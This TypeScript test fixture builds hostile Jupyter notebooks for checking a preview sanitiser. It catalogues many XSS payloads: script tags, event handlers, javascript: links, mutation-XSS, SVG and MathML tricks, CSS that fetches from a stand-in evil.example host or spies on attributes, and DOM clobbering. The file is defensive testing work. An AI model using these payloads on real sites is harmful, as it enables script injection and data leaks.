/**
 * Notebooks of which each tries one thing that a preview must not let happen. `CANARY` stands for a script that tells
 * the test that it ran, and evil.example for a server that counts what reaches it.
 */
import { ADDRESSES } from './addresses.js';
import type { Cell, Notebook } from './notebook.js';
import { CANARY, EVIL, bundle, code, html, latex, markdown, notebook, stream } from './notebook.js';

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="30" onload="${CANARY}"><script>${CANARY}</script><image href="${EVIL}/svg.png" width="9" height="9"/><use xlink:href="${EVIL}/use.svg#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/frame"/></foreignObject><style>@import url(${EVIL}/svg.css);</style><a href="javascript:${CANARY}"><text y="20">a</text></a></svg>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
const attached = (name: string, media: string, data: string): Cell => ({
  ...markdown(`![a](attachment:${encodeURIComponent(name)}) <img src="attachment:${name}">`),
  attachments: { [name]: { [media]: data } }
});

/** Cells by what they try. */
const CELLS: Record<string, Cell | Cell[]> = {
  // Scripts
  'a script in Markdown': markdown(`<script>${CANARY}</script>`),
  'a script in HTML': html(`<script>${CANARY}</script><script src="${EVIL}/a.js"></script>`),
  'a script of a module': html(`<script type="module">import "${EVIL}/m.js"; ${CANARY}</script>`),
  'a script that never ends': html(`<p>a<script>${CANARY}`),
  'a script in a script': html(`<scr<script>ipt>${CANARY}</scr</script>ipt>`),
  'a script behind a null': html(`<scr\0ipt>${CANARY}</scr\0ipt><\0script>${CANARY}</script>`),
  'JavaScript as an output': bundle({ 'application/javascript': CANARY, 'text/plain': 'x' }),
  'a script as LaTeX': latex(`<script>${CANARY}</script> $</math><script>${CANARY}</script>$`),
  'a script as text': bundle({ 'text/plain': `</pre><script>${CANARY}</script>` }),
  'a script as a stream': stream(`</pre></div><script>${CANARY}</script>`),
  'a script as an error': code('x', {
    output_type: 'error',
    ename: `<script>${CANARY}</script>`,
    evalue: `<img src=x onerror=${CANARY}>`,
    traceback: [`</pre><script>${CANARY}</script>`]
  }),
  'a script as a source': code(`</code></pre><script>${CANARY}</script>`),
  'a script as raw text': { cell_type: 'raw', source: `<script>${CANARY}</script>` },
  'a script in a kind of cell': {
    cell_type: `<script>${CANARY}</script>`,
    source: `<script>${CANARY}</script>`
  },
  'a script in a media type': bundle({ [`<img src=x onerror=${CANARY}>`]: 'x' }),
  'a script in a kind of output': code('x', { output_type: `<script>${CANARY}</script>` }),
  'a script in a prompt': {
    cell_type: 'code',
    execution_count: `<script>${CANARY}</script>` as unknown as number,
    outputs: [],
    source: 'x'
  },
  'a script in tags': { ...code('1'), metadata: { tags: [`"><script>${CANARY}</script>`] } },

  // What runs without a script
  'handlers of events': html(
    [
      'onerror',
      'onload',
      'onclick',
      'onmouseover',
      'onfocus',
      'ontoggle',
      'onanimationstart',
      'onbegin',
      'onpointerenter'
    ]
      .map(
        name =>
          `<img src=x ${name}=${CANARY}><details open ${name}="${CANARY}"><summary tabindex=0 autofocus>a</summary></details><div/${name}=${CANARY}>b</div>`
      )
      .join('')
  ),
  'handlers in odd spellings': html(
    `<img src=x oNeRrOr=${CANARY}><img/src=x/onerror=${CANARY}><img src=x\fonerror=${CANARY}><img src="x"onerror="${CANARY}"><img src=x on\nerror=${CANARY}><body onload=${CANARY}><svg/onload=${CANARY}><math onclick=${CANARY}>`
  ),
  'a handler in Markdown': markdown(
    `<img src=x onerror="${CANARY}"> ![a](x "\\" onerror=\\"${CANARY}") ![" onerror="${CANARY}](x)`
  ),
  'links that run': [
    markdown(
      [
        'javascript:',
        'JaVaScRiPt:',
        'java\tscript:',
        '&#106;avascript:',
        'javascript&colon;',
        '\u0001javascript:',
        'vbscript:',
        'data:text/html,<script>',
        'view-source:javascript:',
        'blob:',
        'filesystem:',
        'livescript:'
      ]
        .map(
          scheme =>
            `[a](<${scheme}${CANARY}>) <a href="${scheme}${CANARY}">b</a>\n\n[c]: ${scheme}${CANARY}\n\n[c] <${scheme}${CANARY}>`
        )
        .join('\n\n')
    ),
    html(
      `<a href="java&Tab;script&colon;${CANARY}">a</a><a href=" javascript:${CANARY}">a</a><a xlink:href="javascript:${CANARY}">b</a><map><area href="javascript:${CANARY}" shape=default></map>`
    )
  ],
  'images that run': html(
    `<img src="javascript:${CANARY}"><img src="data:text/html,<script>${CANARY}</script>"><image src="x" onerror=${CANARY}><input type=image src="javascript:${CANARY}">`
  ),
  'a link in TeX': markdown(
    `$\\href{javascript:${CANARY}}{a}$ $\\url{javascript:${CANARY}}$ $\\class{a" onclick="${CANARY}}{b}$ $\\style{background:url(${EVIL}/tex)}{c}$ $\\cssId{a" onclick="${CANARY}}{d}$ $\\unicode{x3c}script\\unicode{x3e}$ $\\text{<script>${CANARY}</script>}$ $\\html{<img src=x onerror=${CANARY}>}$ $\\includegraphics{${EVIL}/a.png}$ $\\data{x=1}{y}$ $\\mmlToken{mi}[onclick="${CANARY}"]{x}$`
  ),
  'attributes in TeX': markdown(
    `$\\color{red" onclick="${CANARY}}{a}$ $\\tag{<script>${CANARY}</script>}$ $\\label{"><script>${CANARY}</script>}\\ref{"><script>${CANARY}</script>}$ $$\\begin{array}{c|"<b>}a\\end{array}$$ $\\operatorname{<img src=x onerror=${CANARY}>}$ $\\newcommand{\\x}{<script>${CANARY}</script>}\\x$`
  ),
  'MathML that runs': html(
    `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${CANARY}">a</maction><mi href="javascript:${CANARY}">x</mi><semantics><annotation-xml encoding="text/html"><script>${CANARY}</script><img src=x onerror=${CANARY}></annotation-xml></semantics></math>`
  ),
  'an annotation that ends mathematics': markdown(
    `$a</annotation></semantics></math><script>${CANARY}</script>$ $$b --> <img src=x onerror=${CANARY}>$$`
  ),

  // Frames, forms, what changes the page
  'frames and plugins': html(
    `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.${CANARY}</script>"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e"><applet code="${EVIL}/x"></applet><frameset><frame src="${EVIL}/f"></frameset><portal src="${EVIL}/p"></portal><fencedframe></fencedframe>`
  ),
  forms: html(
    `<form action="${EVIL}/form" id=f><input name=a autofocus onfocus=${CANARY}><button formaction="javascript:${CANARY}">Go</button><input type=submit><isindex action="javascript:${CANARY}"></form><button form=f>x</button><textarea>a</textarea><select><option>b</select>`
  ),
  'a refresh': html(
    `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><meta http-equiv="refresh" content="0;url=javascript:${CANARY}">`
  ),
  'another base': html(`<base href="${EVIL}/"><a href="a">a</a><img src="b.png">`),
  'links of the head': html(
    [
      'stylesheet',
      'preload',
      'prefetch',
      'dns-prefetch',
      'preconnect',
      'modulepreload',
      'icon',
      'import',
      'manifest',
      'prerender'
    ]
      .map(rel => `<link rel="${rel}" href="${EVIL}/${rel}" as="image">`)
      .join('')
  ),
  'rules of speculation': html(
    `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/s"]}]}</script>`
  ),
  'a policy': html(
    `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><meta http-equiv="set-cookie" content="a=b"><meta name=referrer content=unsafe-url>`
  ),
  media: html(
    `<video src="${EVIL}/v" poster="${EVIL}/p" autoplay></video><audio src="${EVIL}/a" autoplay></audio><video><source src="${EVIL}/s"><track src="${EVIL}/t" default></video><picture><source srcset="${EVIL}/ss"><img src="${EVIL}/i" srcset="${EVIL}/j 2x"></picture><bgsound src="${EVIL}/b">`
  ),
  'remote images': [
    markdown(
      `![a](${EVIL}/a.png) <img src="${EVIL}/b.png"> <img src="//evil.example/c.png"> <img lowsrc="${EVIL}/l" dynsrc="${EVIL}/d" longdesc="${EVIL}/x" src=data:,>\n\n<table background="${EVIL}/t"><tr><td background="${EVIL}/td">a`
    ),
    html(
      `<body background="${EVIL}/body"><img src=x srcset="${EVIL}/e.png 1x"><div background=${EVIL}/f>`
    )
  ],
  pings: html(
    `<a href="#a" ping="${EVIL}/ping">a</a><a href="${EVIL}/x" ping="${EVIL}/ping" download>b</a>`
  ),
  'text that changes how HTML is read': html(`<plaintext><script>${CANARY}</script>`),
  'comments and sections': html(
    `<!--><script>${CANARY}</script>--><!--[if IE]><script>${CANARY}</script><![endif]--><![CDATA[<script>${CANARY}</script>]]><?xml <script>${CANARY}</script>?><!DOCTYPE x [<!ENTITY a "<script>">]>&a;`
  ),
  'templates and noscript': html(
    `<noscript><p title="</noscript><img src=x onerror=${CANARY}>"></noscript><template><script>${CANARY}</script></template><template shadowrootmode=open><script>${CANARY}</script><style>*{display:none}</style></template><xmp><script>${CANARY}</script></xmp><noembed><img src=x onerror=${CANARY}></noembed>`
  ),
  mutations: html(
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CANARY}&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${CANARY}>"></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror=${CANARY}></style></mglyph></form><svg><desc><style><img src=x onerror=${CANARY}></style></desc></svg><select><style></select><img src=x onerror=${CANARY}></style>`
  ),
  'end tags of the page': html(
    `</div></div></main></body></html><script>${CANARY}</script><h1>Out</h1><div>`
  ),
  'end tags in Markdown': markdown(
    `</div></div></main><style>main{display:none}</style>\n\n</p></li></ul></table></blockquote>`
  ),

  // Styles
  'styles that fetch': html(
    `<style>@import "${EVIL}/i.css"; @import url(${EVIL}/j.css); @font-face{font-family:a;src:url(${EVIL}/f.woff)} p{font-family:a;background:url(${EVIL}/p.png);list-style:url(${EVIL}/l);cursor:url(${EVIL}/c),auto;content:url(${EVIL}/co);border-image:url(${EVIL}/b);mask:url(${EVIL}/m);filter:url(${EVIL}/x#a);background-image:image-set("${EVIL}/s" 1x);shape-outside:url(${EVIL}/so)} p::before{content:url(${EVIL}/be)} @namespace url(${EVIL}/n); @media screen{p{background:url(${EVIL}/me)}} @supports (a:b){p{background:url(${EVIL}/su)}} @property --a{syntax:'<url>';inherits:true;initial-value:url(${EVIL}/pr)}</style><p>a</p>`
  ),
  'attributes of styles that fetch': html(
    `<p style="background:url(${EVIL}/a);background:u\\72l(${EVIL}/b);background-image:-webkit-image-set(url(${EVIL}/c) 1x);background:/**/url('${EVIL}/d');--a:url(${EVIL}/e);background:var(--a);behavior:url(${EVIL}/f);-moz-binding:url(${EVIL}/g);width:expression(${CANARY})">a</p>`
  ),
  'styles of another place': html(
    `<style>body,main,.cell,.prompt,html,:root,*,.x-o0,#x-a,[id],main *{display:none!important;visibility:hidden;color:red!important;background:red!important} p ~ *, :has(p), :is(body), :not(p), :host, ::selection{color:red}</style><p>a</p>`
  ),
  'styles that break out': html(
    `<style>}}} body{display:none} p{color:red</style><style><!-- main{display:none} --></style><style>p{color:"</sty` +
      `le><script>${CANARY}</script>"}</style><p style="color:red}body{display:none">a</p><p style='color:red"&gt;&lt;script&gt;${CANARY}&lt;/script&gt;'>b</p><style>/*</style><style>*/body{display:none}</style>`
  ),
  'an overlay': html(
    `<div style="position:fixed;inset:0;z-index:9999;background:red;width:100vw;height:100vh">Sign in</div><style>p{position:absolute;top:0;left:0;width:5000px;height:5000px;background:red;transform:scale(99);margin:-9999px;outline:9999px solid red;box-shadow:0 0 0 9999px red}</style><p>a</p>`
  ),
  'an overlay by margins': html(
    `<div style="margin-top:-3000px;height:6000px;background:red">a</div><div style="margin:-999em -999em;padding:900em;float:left;background:red">b</div><table style="margin-top:-2000px"><tr><td style="padding:999px;background:red">c</td></tr></table>`
  ),
  'an overlay in Markdown': markdown(
    '<div style="position:sticky;top:0;height:100vh;background:red;text-indent:-9999px;letter-spacing:-99px;translate:0 -900px">a</div>'
  ),
  'moving styles': html(
    `<style>@keyframes x{from{background:url(${EVIL}/k)}} p{animation:x 1s;transition:all 1s;offset-path:url(${EVIL}/o)} @layer a{body{display:none}} @scope(body){main{display:none}} @container (width>1px){main{display:none}} @starting-style{main{display:none}} @page{size:0}</style><p>a</p>`
  ),
  'selectors that spy': html(
    `<style>a[href^="h"]{background:url(${EVIL}/1)} input[value^=a]{background:url(${EVIL}/2)} :visited{color:red} :target{display:none} p:hover{background:url(${EVIL}/3)}</style><p>a</p>`
  ),
  'styles in Markdown': markdown(
    `<style>body{display:none} main{background:url(${EVIL}/m)}</style>\n\n<p style="background:url(${EVIL}/p)">a</p>`
  ),
  'styles of ANSI': stream(
    `\x1b[38;2;0;0;0};body{display:none}m a \x1b[38;2;999999999999;0;0m b \x1b[48;5;999m c \x1b[31"onclick=${CANARY}m d`
  ),

  // Names
  'names of the page': [
    html(
      '<div id="cell" class="cell prompt output code note fold"><p id="main" class="text">a</p></div><div class="o0 o1 x-o0" data-s="0" id="x-x">b</div><span class="m-tagged ab a1">c</span>'
    ),
    markdown('<main><nav aria-label="Contents"><h1 id="Witness">a</h1></nav></main>')
  ],
  'names that clobber': html(
    '<img name=body src=data:,><img id=documentElement><form name=head id=forms><input name=attributes></form><a id=location href=#a></a><a id=location name=href href="x"></a><p id=getElementById name=cookie>a</p><object name=scripts></object><iframe name=self></iframe><embed name=top>'
  ),
  'names that end attributes': html(
    `<p id='"><script>${CANARY}</script>' class='"onclick="${CANARY}' title='"><img src=x onerror=${CANARY}>' lang='"x' dir='"y' data-x='"' aria-label='"onfocus="${CANARY}'>a</p>`
  ),
  'names of headings': markdown(
    `# "><script>${CANARY}</script>\n\n## ' onclick='${CANARY}' x='\n\n## <img src=x onerror=${CANARY}>\n\n## \`</a><script>${CANARY}</script>\`\n\n## a { #"onclick="${CANARY} .x onclick=${CANARY} }`
  ),
  'names of footnotes': markdown(
    `a[^"><script>${CANARY}</script>] b[^'onclick=']\n\n[^"><script>${CANARY}</script>]: c\n[^'onclick=']: d`
  ),
  'names of languages': markdown(
    `\`\`\`"><script>${CANARY}</script>\nx\n\`\`\`\n\n~~~ {.python onclick="${CANARY}"}\ny\n~~~`
  ),
  'names of attachments': attached(`"><script>${CANARY}</script>.png`, 'image/png', 'iVBORw0KGgo='),
  'names of members of JSON': bundle({
    'application/json': {
      [`<script>${CANARY}</script>`]: `<img src=x onerror=${CANARY}>`,
      '</details>': ['</div>', { '"': "'" }],
      __proto__: 1,
      constructor: 2
    }
  }),

  // Data that is not what it says
  'an SVG as an image': bundle({ 'image/svg+xml': SVG }),
  'an SVG as HTML': [html(SVG), html(`<p>a</p>${SVG}`), markdown(SVG)],
  'an SVG in an address': html(
    `<img src="data:image/svg+xml;base64,${base64(SVG)}"><img src="data:image/svg+xml,${encodeURIComponent(SVG)}"><img src='data:image/svg+xml;utf8,${SVG.replace(/'/g, '')}'><object data="data:image/svg+xml;base64,${base64(SVG)}"></object><embed src="data:image/svg+xml;base64,${base64(SVG)}"><iframe src="data:image/svg+xml;base64,${base64(SVG)}"></iframe><svg><use href="data:image/svg+xml;base64,${base64(SVG)}#x"/></svg>`
  ),
  'an SVG as an attachment': attached('a.svg', 'image/svg+xml', SVG),
  'an SVG that refers to others': bundle({
    'image/svg+xml': `<?xml version="1.0"?><?xml-stylesheet href="${EVIL}/x.css"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}/ent">]><svg xmlns="http://www.w3.org/2000/svg"><image href="${EVIL}/i"/><feImage href="${EVIL}/fe"/><text font-family="a">&x;</text></svg>`
  }),
  'HTML as an image': bundle({
    'image/png': base64(`<script>${CANARY}</script>`),
    'image/svg+xml': `<html><script>${CANARY}</script><svg></svg></html>`,
    'image/gif': `"><script>${CANARY}</script>`
  }),
  'base64 that ends an attribute': [
    bundle({ 'image/png': `iVBORw0KGgo"onerror="${CANARY}` }),
    bundle({ 'image/jpeg': `/9j/"><script>${CANARY}</script>` }),
    attached('a.png', 'image/png', `iVBORw0KGgo"onerror="${CANARY}`),
    html(
      `<img src='data:image/png;base64,iVBORw0KGgo"onerror="${CANARY}'><img src="data:image/png;base64,x&quot;onerror=&quot;${CANARY}">`
    )
  ],
  'a size that ends an attribute': code('x', {
    output_type: 'display_data',
    data: { 'image/png': 'iVBORw0KGgo=', 'text/plain': '" onerror="' + CANARY },
    metadata: {
      'image/png': {
        width: `1" onerror="${CANARY}`,
        height: '9;}',
        alt: `"><script>${CANARY}</script>`
      }
    }
  }),
  'a page in an address': html(
    `<a href="data:text/html,<script>${CANARY}</script>">a</a><iframe src="data:text/html,<script>${CANARY}</script>"></iframe><img src="data:text/html;base64,${base64(`<script>${CANARY}</script>`)}">`
  ),
  'a widget with HTML': bundle({
    'application/vnd.jupyter.widget-view+json': { model_id: `"><script>${CANARY}</script>` },
    'text/html': `<script>${CANARY}</script><b>a</b>`
  }),
  'Markdown as an output': bundle({
    'text/markdown': `<script>${CANARY}</script> [a](javascript:${CANARY}) ![b](${EVIL}/m.png) <img src=x onerror=${CANARY}> $\\href{javascript:${CANARY}}{a}$`
  }),

  ...ADDRESSES,

  // Characters
  'links of a terminal': stream(
    `\x1b]8;;javascript:${CANARY}\x1b\\a\x1b]8;;\x1b\\ \x1b]8;;${EVIL}/osc\x07b\x1b]8;;\x07 \x1b]0;title\x07\x1b]52;c;YQ==\x07 \x1b[31m<script>${CANARY}</script>\x1b[0m \x1b]1337;File=:${base64(SVG)}\x07`
  ),
  'characters that turn text round': [
    markdown('\u202Egnp.txt\u202C \u2066a\u2069 \u200F\u061C'),
    code('/* \u202E } \u2066if (admin)\u2069 \u2066 begin */')
  ],
  'odd characters': [
    markdown(
      `a\u2028<script>${CANARY}</script>\u2029\0\uFEFF\u000B<img\u00A0src=x\u00A0onerror=${CANARY}> <\u0131mg src=x onerror=${CANARY}> <\u017Fcript>${CANARY}</\u017Fcript> ＜script＞${CANARY}＜/script＞`
    ),
    html(
      `<ſcript>${CANARY}</ſcript><a href="javaſcript:${CANARY}">a</a><img src=x onerror=\u2028${CANARY}>`
    ),
    stream('\0\ud800\udc00 \ud800 a')
  ],
  'marks that are forged': markdown(
    `$<script>${CANARY}</script>$ \uF8F00\uF8F1 <b title="\uF8F00\uF8F1">&#xF8F0;0&#xF8F1; <a href="&#63728;0&#63729;">a</a></b> \`\uF8F01\uF8F1\` ![&#xF8F0;0&#xF8F1;](x)\n\n# &#xF8F0;0&#xF8F1;`
  ),
  'mathematics in attributes': markdown(
    `<a href="$javascript:${CANARY}$">a</a> <b title="$x\\"><script>${CANARY}</script>$">b</b> [c]($javascript:${CANARY}$ "$t$") <img alt="$\\\\"><script>${CANARY}</script>$" src=x>\n\n<img src="$" onerror="${CANARY}" alt="$">`
  ),
  'Markdown between tags': markdown(
    `<div title="\n\n"><script>${CANARY}</script>\n\n<a href="\`" onclick="${CANARY}">\`</a> <b *a="*" onclick=${CANARY}>\n\n| a | <script> |\n|---|---|\n| ${CANARY} | </script> |`
  ),
  'brackets of Markdown': markdown(
    `[a](<x" onclick="${CANARY}>) [b](x 'y" onclick="${CANARY}') ![c](<x" onerror="${CANARY}>) <http://a"onclick="${CANARY}> [d]\n\n[d]: <x"onclick="${CANARY}> "e\\" onclick=\\"${CANARY}"`
  )
};

/** Notebooks whose metadata, not whose cells, are hostile. */
const METADATA: Record<string, Notebook> = {
  'names of kernel and language': notebook([code('x'), markdown('a')], {
    kernelspec: {
      display_name: `<script>${CANARY}</script>`,
      language: `"><script>${CANARY}</script>`,
      name: `"><img src=x onerror=${CANARY}>`
    },
    language_info: {
      name: `</title><script>${CANARY}</script>`,
      pygments_lexer: `"onclick="${CANARY}`
    },
    title: `</title><script>${CANARY}</script>`
  }),
  'a notebook of version 3': {
    metadata: { name: `<script>${CANARY}</script>` },
    nbformat: 3,
    worksheets: [
      {
        cells: [
          {
            cell_type: 'heading',
            level: `1><script>${CANARY}</script>` as unknown as number,
            source: `<script>${CANARY}</script>`
          },
          { cell_type: 'html', source: `<script>${CANARY}</script>` },
          {
            cell_type: 'code',
            input: 'x',
            language: `"><script>${CANARY}</script>`,
            outputs: [
              {
                output_type: 'pyout',
                html: `<script>${CANARY}</script>`,
                svg: SVG,
                javascript: CANARY,
                prompt_number: `<script>${CANARY}</script>`
              }
            ]
          }
        ]
      }
    ]
  }
};

/** All of them by name. Each has a harmless first and last cell, which must look as they do elsewhere. */
export const HOSTILE: Record<string, Notebook> = {
  ...Object.fromEntries(
    Object.entries(CELLS).map(([name, cells]) => [name, notebook([cells].flat())])
  ),
  ...METADATA
};
